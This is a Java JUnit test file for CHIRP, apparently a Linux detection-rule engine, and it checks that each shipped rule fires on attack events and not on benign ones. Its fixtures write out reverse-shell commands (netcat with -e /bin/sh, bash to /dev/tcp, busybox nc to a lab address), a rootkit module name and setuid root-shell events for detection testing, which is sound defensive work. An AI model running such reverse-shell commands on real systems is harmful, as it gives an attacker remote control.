package io.chirp.detect;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.chirp.detect.check.RuleCheck;
import io.chirp.detect.eval.CompiledRule;
import io.chirp.detect.ocsf.OcsfPipeline;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CHIRP's shipped rules: each fires on an OCSF event of the attack it is for and not on a benign one, both going
 * through the same pipeline the monitor uses. (Lab scenario tests through the monitor live with the monitor.)
 */
class ShippedRulesTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Detector SHIPPED = Detector.shipped();

    record Case(String ruleId, String attack, String benign) {
        @Override public String toString() { return ruleId; }
    }

    static String launch(String image, String cmd, String user, String parentUser) {
        return "{'class_uid': 1007, 'activity_id': 1, 'process': {'pid': 1234, 'file': {'path': '" + image + "'}, 'cmd_line': '"
                + cmd + "', 'user': {'name': '" + user + "'}, 'parent_process': {'pid': 1000, 'file': {'path': '/bin/bash'},"
                + " 'user': {'name': '" + parentUser + "'}}}}";
    }

    static String listen(String ip, int port) {
        return "{'class_uid': 4001, 'activity_id': 7, 'actor': {'process': {'pid': 77, 'file': {'path': '/usr/bin/nc'}}},"
                + " 'dst_endpoint': {'ip': '" + ip + "', 'port': " + port + "}, 'connection_info': {'protocol_name': 'tcp', 'direction_id': 1}}";
    }

    static String module(String name, String path) {
        return "{'class_uid': 1005, 'activity_id': 1, 'module': {'file': {'name': '" + name + "'" + (path == null ? "" : ", 'path': '" + path + "'") + "}}}";
    }

    static String integrity(String type) {
        return "{'class_uid': 2004, 'activity_id': 1, 'finding_info': {'uid': 'x', 'types': ['" + type + "'], 'title': 't',"
                + " 'analytic': {'type_id': 2, 'name': 'integrity'}}}";
    }

    static String setuid(String image, String uid, String previousUid) {
        return "{'class_uid': 1007, 'activity_id': 5, 'process': {'pid': 9, 'file': {'path': '" + image + "'}, 'user': {'name': 'root', 'uid': '"
                + uid + "'}}, 'actor': {'user': {'name': 'alice', 'uid': '" + previousUid + "'}}}";
    }

    static Stream<Case> cases() {
        return Stream.of(
                new Case("1ea795f9-323c-4068-85ac-abdb01874b62", launch("/usr/bin/nc", "nc -e /bin/sh 10.0.2.2 4444", "alice", "alice"),
                        launch("/usr/bin/nc", "nc -l -p 8080", "alice", "alice")),
                new Case("1ea795f9-323c-4068-85ac-abdb01874b62", launch("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.2.2/4444 0>&1", "alice", "alice"),
                        launch("/bin/bash", "bash -c echo hello > /dev/null", "alice", "alice")),
                new Case("1ea795f9-323c-4068-85ac-abdb01874b62", launch("/bin/busybox", "busybox nc 10.0.2.2 4444 -e /bin/sh", "root", "root"),
                        launch("/bin/busybox", "busybox ls -l /", "root", "root")),
                new Case("fcb21ce9-7ee3-49ea-82c3-8fc22b905226", launch("/dev/shm/.x/payload", "/dev/shm/.x/payload", "alice", "alice"),
                        launch("/usr/bin/python3", "python3 /tmp/script.py", "alice", "alice")),
                new Case("fcb21ce9-7ee3-49ea-82c3-8fc22b905226", launch("/tmp/exploit", "./exploit", "alice", "alice"),
                        launch("/usr/bin/ls", "ls /tmp", "alice", "alice")),
                new Case("2188745d-8d46-4b0d-a810-87e56ac0289a", listen("0.0.0.0", 31337), listen("127.0.0.1", 631)),
                new Case("2188745d-8d46-4b0d-a810-87e56ac0289a", listen("::", 4444), listen("::1", 631)),
                new Case("a280899c-5fc9-4eab-8be0-bf0d28d0d9a6", module("evil", "/tmp/evil.ko"),
                        module("ext4", "/lib/modules/6.1.0-37-amd64/kernel/fs/ext4/ext4.ko")),
                new Case("a280899c-5fc9-4eab-8be0-bf0d28d0d9a6", module("evil", "/home/alice/evil.ko"),
                        module("virtio_net", "/usr/lib/modules/6.1.0-37-amd64/kernel/drivers/net/virtio_net.ko")),
                // a module known by name only (found in the module list): where it came from is unknown, not "outside"
                new Case("a280899c-5fc9-4eab-8be0-bf0d28d0d9a6", module("evil", "/dev/shm/evil.ko"), module("evil", null)),
                new Case("4b1c7d2e-6a0f-4e3b-9c55-1f0e2d3a4b6c", module("dummy", null),
                        "{'class_uid': 1005, 'activity_id': 2, 'module': {'file': {'name': 'dummy'}}}"),
                new Case("9c2f4ec0-0516-427a-b1e8-8dab31671355", module("diamorphine", null), module("nf_tables", null)),
                new Case("cbcf2342-1756-4686-a3c2-7b9343464380", integrity("hidden_processes"), integrity("kprobes")),
                new Case("cbcf2342-1756-4686-a3c2-7b9343464380", integrity("hidden_process"), integrity("hidden_modules")),
                new Case("16e433d6-ed0b-4d2d-808d-e3431a366d77", integrity("hidden_modules"), integrity("ftrace")),
                new Case("16e433d6-ed0b-4d2d-808d-e3431a366d77", integrity("kernel_threads"), integrity("kprobes")),
                new Case("b94fae82-bc4e-4be6-a7f1-e96c00f9aa1e", integrity("syscall_table"), integrity("idt")),
                new Case("b94fae82-bc4e-4be6-a7f1-e96c00f9aa1e", integrity("syscall_hook"), integrity("hidden_processes")),
                new Case("7e3a9c51-2b84-4f0d-9d16-5c8e0a4b7f23", integrity("masquerade"), integrity("kprobes")),
                new Case("7e3a9c51-2b84-4f0d-9d16-5c8e0a4b7f23", integrity("wx_memory"), integrity("credentials")),
                new Case("7e3a9c51-2b84-4f0d-9d16-5c8e0a4b7f23", integrity("rootkit_modules"), integrity("ftrace")),
                new Case("cabccf45-3348-4318-a3be-c1182e78a35d", setuid("/tmp/exploit", "0", "1000"), setuid("/usr/bin/sudo", "0", "1000")),
                new Case("cabccf45-3348-4318-a3be-c1182e78a35d", setuid("/home/alice/a.out", "0", "1000"), setuid("/usr/sbin/cron", "0", "0")),
                new Case("5d0f7a4e-93b1-4c1e-9c8a-2f6b7e1d4a90", launch("/tmp/rootshell", "/tmp/rootshell -p", "root", "alice"),
                        launch("/usr/bin/sudo", "sudo id", "root", "alice")),
                new Case("5d0f7a4e-93b1-4c1e-9c8a-2f6b7e1d4a90", launch("/bin/sh", "sh", "root", "www-data"),
                        launch("/usr/bin/id", "id", "root", "root")));
    }

    @ParameterizedTest(name = "{0}") @MethodSource("cases")
    void firesOnTheAttackAndNotOnTheBenignEvent(Case c) throws Exception {
        assertThat(fired(c.attack())).as("attack " + c.attack()).contains(c.ruleId());
        assertThat(fired(c.benign())).as("benign " + c.benign()).doesNotContain(c.ruleId());
    }

    private static Set<String> fired(String ocsf) throws Exception {
        JsonNode ev = JSON.readTree(ocsf.replace('\'', '"'));
        Set<String> ids = new HashSet<>();
        OcsfPipeline.standard().map(ev).ifPresent(e -> SHIPPED.detect(e).forEach(d -> ids.add(d.ruleId())));
        return ids;
    }

    @Test void everyShippedRuleHasACaseAndIsWellFormed() {
        Set<String> covered = new HashSet<>();
        cases().forEach(c -> covered.add(c.ruleId()));
        Set<String> ids = new HashSet<>();
        for (CompiledRule r : SHIPPED.rules()) {
            assertThat(r.rule().author()).isEqualTo("CHIRP");
            assertThat(r.rule().logSource().product()).isEqualTo("linux");
            assertThat(r.rule().id()).matches("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");
            assertThat(ids.add(r.rule().id())).as("unique id " + r.rule().id()).isTrue();
            assertThat(r.rule().level()).isNotNull();
            assertThat(r.rule().tags()).anyMatch(t -> t.matches("attack\\.t\\d{4}(\\.\\d{3})?"));
        }
        assertThat(covered).containsExactlyInAnyOrderElementsOf(ids);
        assertThat(SHIPPED.rules()).hasSizeGreaterThanOrEqualTo(7);
    }

    @Test void indexListsEveryRuleFileInTheFolder() throws Exception {
        Path folder = Path.of("src/main/resources/io/chirp/detect/rules");
        assertThat(folder).as("run from the module folder").isDirectory();
        List<String> files;
        try (Stream<Path> s = Files.list(folder)) {
            files = s.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".yml")).sorted().toList();
        }
        List<String> index = Files.readAllLines(folder.resolve("index.txt")).stream()
                .map(String::strip).filter(l -> !l.isEmpty() && !l.startsWith("#")).sorted().toList();
        assertThat(index).isEqualTo(files);
    }

    @Test void shippedRulesPassTheRuleCheck() {
        RuleCheck.Report report = new RuleCheck(OcsfPipeline.standard()).check(SHIPPED);
        assertThat(report.failures()).as("%s", report.failures()).isEmpty();
    }
}
